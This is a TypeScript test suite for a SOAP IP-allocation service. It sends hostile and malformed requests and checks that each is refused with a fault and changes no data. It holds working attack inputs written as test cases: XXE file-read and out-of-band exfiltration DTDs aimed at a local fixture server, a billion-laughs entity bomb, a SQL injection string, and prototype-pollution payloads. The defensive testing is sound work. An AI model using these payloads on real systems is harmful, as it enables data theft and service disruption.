/**
 * Bad input gets a clear SOAP fault and changes nothing, on both backends. Every case is sent as
 * raw bytes over HTTP and must come back as HTTP 500 with a SOAP 1.1 Fault whose tns:IpcdFault
 * carries the expected stable code and a sentence, without internal error text; every table
 * (row count and content hash) is the same afterwards; and the server still answers.
 * Many cases wrap an otherwise valid CommissionIP, so a refusal that slipped through would
 * show up as a write.
 */
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { loadExampleTopology } from '../../src/example/topology';
import { BACKENDS, openTestStore, type TestStore } from '../support/backends';
import { startServer, type RunningServer } from '../support/server';
import { call, envelope, NS, readReply, type Fields, type SoapReply } from '../support/soap';

const SOAP11 = 'http://schemas.xmlsoap.org/soap/envelope/';
const SOAP12 = 'http://www.w3.org/2003/05/soap-envelope';
const XSI = 'http://www.w3.org/2001/XMLSchema-instance';
const MAX_BODY = 4096;
const TABLES = ['data_center', 'tenant', 'zone', 'network', 'free_range', 'allocation'];
/** What must never reach a client: stack frames, JS error names, node-soap's own messages. */
const INTERNALS = /\.(js|ts):\d+:\d+|node_modules|\b(Type|Range|Reference|Syntax)Error\b|Cannot read|is not a function|is not iterable|InternalServerError/;

// A local file an XXE would try to read, and a server a remote DTD would be fetched from.
const MARKER = `IPCD-SECRET-${randomBytes(8).toString('hex')}`;
const secretDir = mkdtempSync(join(tmpdir(), 'ipcd-hostile-'));
const SECRET_FILE = join(secretDir, 'secret.txt');
writeFileSync(SECRET_FILE, `${MARKER}\n`);
let dtdServer: Server;
let dtdUrl = 'http://127.0.0.1:9/';
const dtdFetches: string[] = [];

beforeAll(async () => {
  dtdServer = createServer((req, res) => {
    dtdFetches.push(req.url ?? '');
    res.setHeader('Content-Type', 'application/xml-dtd');
    res.end(`<!ENTITY % file SYSTEM "file://${SECRET_FILE}"><!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM '${dtdUrl}x?%file;'>">%eval;%exfil;`);
  });
  await new Promise<void>((resolve) => dtdServer.listen(0, '127.0.0.1', resolve));
  dtdUrl = `http://127.0.0.1:${(dtdServer.address() as AddressInfo).port}/`;
});
afterAll(async () => {
  await new Promise((resolve) => dtdServer?.close(resolve));
  rmSync(secretDir, { recursive: true, force: true });
});

// ---- envelopes -------------------------------------------------------------------------------

const doc = (body: string, { prolog = '', header = '' } = {}) =>
  `<?xml version="1.0" encoding="UTF-8"?>${prolog}<s:Envelope xmlns:s="${SOAP11}" xmlns:i="${NS}">${header}<s:Body>${body}</s:Body></s:Envelope>`;
const el = (name: string, inner: string, attrs = '') => `<i:${name}${attrs}>${inner}</i:${name}>`;
/** A complete, valid CommissionIP with one parameter's XML replaced or added. */
const commissionXml = (replace: Partial<Record<'dataCenter' | 'vlan' | 'serverInstance', string>> = {}, extra = '', attrs = '') =>
  doc(
    el(
      'CommissionIP',
      (replace.dataCenter ?? el('dataCenter', 'dc1')) + (replace.vlan ?? el('vlan', '100')) + (replace.serverInstance ?? el('serverInstance', 'vm-hostile')) + extra,
      attrs,
    ),
  );
/** CommissionIP with field values (escaped as text). */
const commission = (f: Fields) => envelope('CommissionIP', { dataCenter: 'dc1', vlan: 100, serverInstance: 'vm-hostile', ...f });
const decommission = (f: Fields) => envelope('DecommissionIP', { dataCenter: 'dc1', vlan: 100, ...f });
const VALID_DECOMMISSION = el('DecommissionIP', el('dataCenter', 'dc1') + el('vlan', '100') + el('serverInstance', 'vm-seed'));
const billionLaughs =
  `<!DOCTYPE s:Envelope [<!ENTITY l0 "lol">` +
  Array.from({ length: 9 }, (_, k) => `<!ENTITY l${k + 1} "${`&l${k};`.repeat(10)}">`).join('') +
  `]>`;

interface Case {
  name: string;
  body: () => string | Buffer;
  code: string;
  headers?: Record<string, string>;
  /** Extra checks on the reply (and the elapsed time). */
  check?: (r: SoapReply, ms: number, db: TestStore) => void | Promise<void>;
}

const mentions = (re: RegExp) => (r: SoapReply) => expect(r.fault?.message).toMatch(re);
const invalid = (name: string, body: () => string | Buffer, message?: RegExp, extra: Partial<Case> = {}): Case => ({
  name,
  body,
  code: 'INVALID_REQUEST',
  ...(message ? { check: mentions(message) } : {}),
  ...extra,
});

const CASES: Case[] = [
  // not XML, or not well-formed
  invalid('truncated envelope', () => commission({}).slice(0, 150), /well-formed/),
  invalid('mismatched tags', () => commissionXml({ vlan: '<i:vlan>100</i:vlann>' }), /well-formed/),
  invalid('garbage bytes', () => Buffer.from([0xff, 0xfe, 0x00, 0x3c, 0x80, 0x81, 0x1b, 0x00, 0x7f])),
  invalid('empty body', () => ''),
  invalid('JSON instead of XML', () => JSON.stringify({ CommissionIP: { dataCenter: 'dc1', vlan: 100, serverInstance: 'vm-hostile' } }), /well-formed/, {
    headers: { 'Content-Type': 'application/json' },
  }),
  invalid('text after the envelope', () => `${commission({})}trailing`, /well-formed/),
  invalid('an undefined entity reference', () => commission({}).replace('vm-hostile', '&nope;'), /well-formed/),

  // DTDs: external entities, parameter entities, remote DTDs, entity expansion
  invalid('XXE: external entity reading a local file', () => doc(el('CommissionIP', el('dataCenter', 'dc1') + el('vlan', '100') + el('serverInstance', '&xxe;')), { prolog: `<!DOCTYPE s:Envelope [<!ENTITY xxe SYSTEM "file://${SECRET_FILE}">]>` }), /DTD/, {
    check: async (r, _ms, db) => {
      expect(r.fault?.message).toMatch(/DTD/);
      expect(await dumpAll(db)).not.toContain(MARKER);
    },
  }),
  invalid('XXE: parameter entity loading a remote DTD (out-of-band exfiltration)', () => doc(el('CommissionIP', el('dataCenter', 'dc1') + el('vlan', '100') + el('serverInstance', 'vm-hostile')), { prolog: `<!DOCTYPE s:Envelope [<!ENTITY % remote SYSTEM "${dtdUrl}evil.dtd">%remote;]>` }), /DTD/),
  invalid('external DTD subset', () => doc(VALID_DECOMMISSION, { prolog: `<!DOCTYPE s:Envelope SYSTEM "${dtdUrl}evil.dtd">` }), /DTD/),
  invalid('lower-case doctype', () => doc(VALID_DECOMMISSION, { prolog: `<!doctype s:Envelope [<!ENTITY a "b">]>` }), /DTD/),
  invalid('billion laughs', () => doc(el('CommissionIP', el('dataCenter', 'dc1') + el('vlan', '100') + el('serverInstance', '&l9;')), { prolog: billionLaughs }), /DTD/, {
    check: (r, ms) => {
      expect(r.fault?.message).toMatch(/DTD/);
      expect(r.raw.length).toBeLessThan(2048); // nothing was expanded into the reply
      expect(ms).toBeLessThan(2000); // a "did not expand" signal, not a performance claim
    },
  }),

  // size
  { name: '100 KB body with Content-Length', body: () => commissionXml({}, `<!--${'x'.repeat(100 * 1024)}-->`), code: 'REQUEST_TOO_LARGE', check: mentions(new RegExp(`${MAX_BODY} bytes`)) },
  { name: 'gzip body inflating past the limit', body: () => gzipSync(commissionXml({}, `<!--${'x'.repeat(200 * 1024)}-->`)), code: 'REQUEST_TOO_LARGE', headers: { 'Content-Encoding': 'gzip' } },
  invalid('unsupported Content-Encoding', () => commission({}), /could not be read/, { headers: { 'Content-Encoding': 'x-unknown' } }),

  // wrong types and out-of-range values
  ...['abc', '12abc', '1.5', '0x64', '1e2', '١٠٠'].map((v) => invalid(`vlan '${v}'`, () => commission({ vlan: v }), /vlan must be an integer/)),
  invalid("vlan ''", () => commission({ vlan: '' }), /vlan is required/),
  invalid('vlan holding an element', () => commissionXml({ vlan: el('vlan', el('n', '100')) }), /vlan must be an integer/),
  invalid('vlan given twice', () => commissionXml({ vlan: el('vlan', '100') + el('vlan', '100') })),
  invalid('vlan xsi:nil', () => commissionXml({ vlan: `<i:vlan xmlns:xsi="${XSI}" xsi:nil="true"/>` }), /vlan is required/),
  ...['0', '4095', '-1', '99999', '99999999999999999999'].map((v) => invalid(`vlan ${v}`, () => commission({ vlan: v }), /vlan/)),
  invalid("wantAddress 'yes'", () => commission({ wantAddress: 'yes' }), /wantAddress must be true or false/),
  invalid("wantName 'TRUE'", () => commission({ wantName: 'TRUE' }), /wantName/),
  invalid("addressFamily 'IPv5'", () => commission({ addressFamily: 'IPv5' }), /addressFamily must be IPv4 or IPv6/),
  invalid('neither address nor name wanted', () => commission({ wantAddress: false, wantName: false }), /neither/),
  invalid('serverInstance missing', () => commission({ serverInstance: undefined }), /serverInstance is required/),
  invalid('serverInstance of 256 characters', () => commission({ serverInstance: 'a'.repeat(256) }), /serverInstance/),
  invalid('serverInstance holding an element', () => commissionXml({ serverInstance: el('serverInstance', el('x', 'y')) }), /serverInstance/),

  // names
  { name: 'unknown VLAN in a data center', body: () => commission({ vlan: 999 }), code: 'UNKNOWN_VLAN', check: mentions(/VLAN 999/) },
  { name: 'unknown VLAN anywhere', body: () => commission({ dataCenter: undefined, vlan: 4094 }), code: 'UNKNOWN_VLAN', check: mentions(/VLAN 4094/) },
  { name: 'unknown data center', body: () => commission({ dataCenter: 'dc9' }), code: 'UNKNOWN_DATA_CENTER', check: mentions(/dc9/) },
  ...["dc1'; DROP TABLE network;--", '../dc1', 'dc 1', 'dc①', '-dc1', 'd'.repeat(64)].map((v) =>
    invalid(`dataCenter '${v.length > 20 ? `${v.slice(0, 8)}…` : v}'`, () => commission({ dataCenter: v }), /dataCenter must be/),
  ),
  ...['not_a_label', '-leading', 'trailing-', 'a.b', 'x'.repeat(64), 'ünïcode'].map((v) =>
    invalid(`hostnameHint '${v.length > 20 ? `${v.slice(0, 8)}…` : v}'`, () => commission({ wantName: true, hostnameHint: v }), /hostnameHint must be a DNS label/),
  ),
  invalid('NameOnly with a hostnameHint that is not a DNS label', () => envelope('NameOnly', { dataCenter: 'dc1', vlan: 100, serverInstance: 'vm-hostile', hostnameHint: 'no_no' }), /hostnameHint/),

  // unknown elements and operations
  invalid('unknown element vlanId', () => commissionXml({ vlan: el('vlanId', '100') }), /unexpected element 'vlanId'/),
  invalid('extra unknown element', () => commissionXml({}, el('priority', '1')), /unexpected element 'priority'/),
  invalid('unqualified parameters', () => doc(el('CommissionIP', '<dataCenter>dc1</dataCenter><vlan>100</vlan><serverInstance>vm-hostile</serverInstance>')), /namespace/),
  invalid('a parameter in a foreign namespace', () => commissionXml({ vlan: '<x:vlan xmlns:x="urn:example:evil">100</x:vlan>' }), /namespace/),
  { name: 'unknown operation', body: () => doc(el('GiveMeEverything', el('vlan', '100'))), code: 'UNSUPPORTED_OPERATION', check: mentions(/GiveMeEverything/) },
  { name: 'operation in a foreign namespace', body: () => doc('<x:CommissionIP xmlns:x="urn:example:evil"><x:dataCenter>dc1</x:dataCenter><x:vlan>100</x:vlan><x:serverInstance>vm-hostile</x:serverInstance></x:CommissionIP>'), code: 'UNSUPPORTED_OPERATION', check: mentions(/urn:example:evil/) },
  { name: 'a Fault as the operation', body: () => doc('<s:Fault><faultcode>s:Client</faultcode><faultstring>x</faultstring></s:Fault>'), code: 'UNSUPPORTED_OPERATION' },

  // envelope shape and transport
  invalid('SOAP 1.2 envelope', () => `<e:Envelope xmlns:e="${SOAP12}" xmlns:i="${NS}"><e:Body>${el('CommissionIP', el('dataCenter', 'dc1') + el('vlan', '100') + el('serverInstance', 'vm-hostile'))}</e:Body></e:Envelope>`, /SOAP 1\.2/, {
    headers: { 'Content-Type': 'application/soap+xml; charset=utf-8' },
  }),
  invalid('SOAPAction contradicting the body', () => commission({}), /SOAPAction/, { headers: { SOAPAction: `"${NS}/DecommissionIP"` } }),
  invalid('SOAPAction of no operation', () => commission({}), /SOAPAction/, { headers: { SOAPAction: 'urn:example:whatever' } }),
  invalid('root element that is not an envelope', () => `<?xml version="1.0"?><html><body>${el('CommissionIP', '')}</body></html>`, /not a SOAP envelope/),
  invalid('Envelope in no namespace', () => '<Envelope><Body><CommissionIP/></Body></Envelope>', /not a SOAP envelope/),
  invalid('envelope without a Body', () => `<s:Envelope xmlns:s="${SOAP11}"><s:Header/></s:Envelope>`, /no operation/),
  invalid('empty Body', () => doc(''), /no operation/),
  invalid('two operations in the Body', () => doc(VALID_DECOMMISSION + el('CommissionIP', el('dataCenter', 'dc1') + el('vlan', '100') + el('serverInstance', 'vm-hostile'))), /exactly one operation/),
  invalid('two Bodies', () => doc(VALID_DECOMMISSION).replace('</s:Envelope>', `<s:Body>${VALID_DECOMMISSION}</s:Body></s:Envelope>`), /one Body/),
  invalid('an element after the Body', () => doc(VALID_DECOMMISSION).replace('</s:Envelope>', '<s:Trailer/></s:Envelope>'), /one Body/),
  invalid('text inside the operation', () => doc(el('CommissionIP', 'just text')), /text/),
  invalid('text mixed with the parameters', () => commissionXml({}, 'trailing text'), /text/),
  invalid('HTML Content-Type (the reply stays XML)', () => commissionXml({}, '<i:x><b>hi</b></i:x>'), undefined, { headers: { 'Content-Type': 'text/html' } }),

  // shapes node-soap's own parser cannot take (it answered them with its error text, or worse)
  invalid('SOAP-encoding id="__proto__" (pollutes Object.prototype)', () => commissionXml({ vlan: el('vlan', '100', ' id="__proto__"') }), /id/),
  invalid('SOAP-encoding href="#__proto__"', () => commissionXml({ vlan: '<i:vlan href="#__proto__"/>' }), /href/),
  invalid('SOAP-encoding multiRef cycle', () => commissionXml({ vlan: el('vlan', '<i:x href="#a"/>', ' id="a"') }), /id/),
  invalid('element named __proto__', () => doc(el('CommissionIP', el('__proto__', el('dataCenter', 'dc1') + el('vlan', '100') + el('serverInstance', 'vm-hostile')))), /__proto__/),
  invalid('element named constructor', () => commissionXml({}, el('constructor', '1')), /constructor/),
  invalid('xsi:type naming constructor', () => commissionXml({ vlan: el('vlan', '100', ` xmlns:xsi="${XSI}" xsi:type="i:constructor"`) }), /constructor/),
  invalid('xsi:type in namespace __proto__', () => commissionXml({ vlan: el('vlan', '100', ` xmlns:xsi="${XSI}" xmlns:q="__proto__" xsi:type="q:int"`) }), /__proto__/),
  invalid('CDATA holding a nested XML document', () => commissionXml({ serverInstance: el('serverInstance', '<![CDATA[<?xml version="1.0"?><a>]]>') }), /CDATA/),
  invalid('elements nested 40 deep', () => commissionXml({ vlan: el('vlan', '<i:a>'.repeat(40) + '100' + '</i:a>'.repeat(40)) }), /deep/),

  // DecommissionIP
  invalid('DecommissionIP with nothing to identify', () => decommission({}), /say what to release/),
  invalid('DecommissionIP releasing neither part', () => decommission({ serverInstance: 'vm-seed', releaseAddress: false, releaseName: false }), /releases nothing/),
  { name: 'DecommissionIP of an address never issued', body: () => decommission({ address: '10.0.0.200' }), code: 'NOT_FOUND', check: mentions(/10\.0\.0\.200/) },
  { name: 'DecommissionIP of a name never issued', body: () => decommission({ name: 'never-issued.dc1.example.com' }), code: 'NOT_FOUND' },
  { name: 'DecommissionIP of an address on another VLAN', body: () => decommission({ vlan: 200, address: '10.0.0.2' }), code: 'NOT_FOUND' },
  ...['10.0.0.300', 'not-an-ip', '2001:db8::g', '10.0.0.2/24', ''.padEnd(70, '1')].map((v) =>
    invalid(`DecommissionIP address '${v.length > 20 ? `${v.slice(0, 8)}…` : v}'`, () => decommission({ address: v }), /address must be an IPv4 or IPv6 address/),
  ),
  invalid('DecommissionIP name that is not a DNS name', () => decommission({ name: 'bad name!' }), /DNS name/),
];

// ---- helpers -----------------------------------------------------------------------------------

interface Sent {
  status: number;
  type: string;
  text: string;
  ms: number;
}

/** POST raw bytes, with no SOAPAction unless given. */
async function send(url: string, body: string | Buffer, headers: Record<string, string> = {}): Promise<Sent> {
  const started = performance.now();
  const res = await fetch(url, { method: 'POST', headers: { 'Content-Type': 'text/xml; charset=utf-8', ...headers }, body });
  const text = await res.text();
  return { status: res.status, type: res.headers.get('content-type') ?? '', text, ms: performance.now() - started };
}

/** POST a body of `size` bytes in chunks, without a Content-Length. */
function sendChunked(url: string, size: number): Promise<Sent> {
  const started = performance.now();
  return new Promise((resolve, reject) => {
    const req = request(url, { method: 'POST', headers: { 'Content-Type': 'text/xml; charset=utf-8', 'Transfer-Encoding': 'chunked' } }, (res) => {
      let text = '';
      res.setEncoding('utf8');
      res.on('data', (c: string) => (text += c));
      res.on('end', () => resolve({ status: res.statusCode ?? 0, type: String(res.headers['content-type'] ?? ''), text, ms: performance.now() - started }));
    });
    req.on('error', reject);
    void (async () => {
      req.write(`<?xml version="1.0"?><s:Envelope xmlns:s="${SOAP11}"><s:Body><!--`);
      for (let sent = 0; sent < size && !req.destroyed; sent += 1024) {
        if (!req.write('x'.repeat(1024))) await new Promise((r) => req.once('drain', r));
      }
      req.end('--></s:Body></s:Envelope>');
    })().catch(() => undefined);
  });
}

/** Row count and content hash of every table. */
async function snapshot(db: TestStore): Promise<Record<string, { rows: number; hash: string }>> {
  const out: Record<string, { rows: number; hash: string }> = {};
  for (const t of TABLES) {
    const [r] = await db.store.dataSource.query(`SELECT count(*)::int AS rows, md5(coalesce(string_agg(x::text, '|' ORDER BY x::text), '')) AS hash FROM ${t} x`);
    out[t] = { rows: Number(r.rows), hash: r.hash };
  }
  return out;
}

async function dumpAll(db: TestStore): Promise<string> {
  const parts: string[] = [];
  for (const t of TABLES) parts.push(...(await db.store.dataSource.query(`SELECT x::text AS row FROM ${t} x`)).map((r: { row: string }) => r.row));
  return parts.join('\n');
}

/** The reply is a clear SOAP 1.1 contract fault with this code, and leaks nothing internal. */
function expectFault(s: Sent, code: string): SoapReply {
  expect({ status: s.status, type: s.type }).toEqual({ status: 500, type: expect.stringMatching(/^text\/xml/) });
  const r = readReply(s.status, s.text);
  expect({ element: r.body.name, ns: r.body.uri }).toEqual({ element: 'Fault', ns: SOAP11 });
  expect(r.fault).toMatchObject({ code, faultcode: 'soap:Client', message: expect.stringMatching(/\S{3}/) });
  expect(r.fault?.faultstring).toBe(r.fault?.message);
  expect(s.text).not.toMatch(INTERNALS);
  expect(s.text).not.toContain(MARKER);
  return r;
}

// ---- the suite ---------------------------------------------------------------------------------

describe.each(BACKENDS)('hostile input gets a clear SOAP fault and changes nothing (%s store)', (backend) => {
  let db: TestStore;
  let server: RunningServer;
  const alive = async () => {
    // A valid request that writes nothing: release what a never-seen instance holds.
    const r = await call(server.url, 'DecommissionIP', { dataCenter: 'dc1', vlan: 100, serverInstance: 'vm-nobody' });
    expect({ status: r.status, fault: r.fault, released: r.values.releasedCount }).toEqual({ status: 200, fault: undefined, released: '0' });
  };

  beforeAll(async () => {
    db = await openTestStore(backend);
    await loadExampleTopology(db.store);
    server = await startServer(db.store, { maxBodyBytes: MAX_BODY });
    // Something issued, so allocations, free ranges and a zone counter have content to protect.
    const seeded = await call(server.url, 'CommissionIP', { dataCenter: 'dc1', vlan: 100, serverInstance: 'vm-seed', wantName: true });
    expect(seeded.status).toBe(200);
  });
  afterAll(async () => {
    await server?.close();
    await db?.dispose();
  });

  test.each(CASES.map((c): [string, Case] => [c.name, c]))('%s', async (_name, c) => {
    const before = await snapshot(db);
    const sent = await send(server.url, c.body(), c.headers);
    const reply = expectFault(sent, c.code);
    await c.check?.(reply, sent.ms, db);
    expect(await snapshot(db)).toEqual(before);
    await alive();
  });

  test('100 KB sent chunked, without a Content-Length', async () => {
    const before = await snapshot(db);
    expectFault(await sendChunked(server.url, 100 * 1024), 'REQUEST_TOO_LARGE');
    expect(await snapshot(db)).toEqual(before);
    await alive();
  });

  test('no remote DTD was ever fetched and the secret file reached no reply and no table', async () => {
    expect(dtdFetches).toEqual([]);
    expect(await dumpAll(db)).not.toContain(MARKER);
  });

  test('50 hostile requests at once, mixed with valid ones: every hostile one faults, every valid one is served', async () => {
    const before = await snapshot(db);
    const hostile = Array.from({ length: 50 }, (_, k) => CASES[(k * 7) % CASES.length]);
    const valid = Array.from({ length: 10 }, (_, k) => `vm-burst-${k}`);
    // Every request is started before any reply is awaited; a valid one after every five hostile.
    const jobs: (() => Promise<() => void>)[] = [];
    hostile.forEach((c, k) => {
      jobs.push(async () => {
        const sent = await send(server.url, c.body(), c.headers);
        return () => void expectFault(sent, c.code);
      });
      if (k % 5 === 4) {
        const vm = valid[(k - 4) / 5];
        jobs.push(async () => {
          const r = await call(server.url, 'CommissionIP', { dataCenter: 'dc1', vlan: 100, serverInstance: vm });
          return () => expect({ vm, status: r.status, fault: r.fault, network: r.values.network }).toEqual({ vm, status: 200, fault: undefined, network: 'dc1-v100-a' });
        });
      }
    });
    expect(jobs).toHaveLength(hostile.length + valid.length);
    const checks = await Promise.all(jobs.map((job) => job()));
    checks.forEach((check) => check());
    const after = await snapshot(db);
    for (const t of ['data_center', 'tenant', 'zone', 'network']) expect(after[t]).toEqual(before[t]);
    expect(after.allocation.rows).toBe(before.allocation.rows + valid.length);
    const issued = await db.store.dataSource.query(`SELECT host(address) AS a FROM allocation WHERE server_instance LIKE 'vm-burst-%' AND released_at IS NULL`);
    expect(new Set(issued.map((r: { a: string }) => r.a)).size).toBe(valid.length);
    await alive();
  });
});
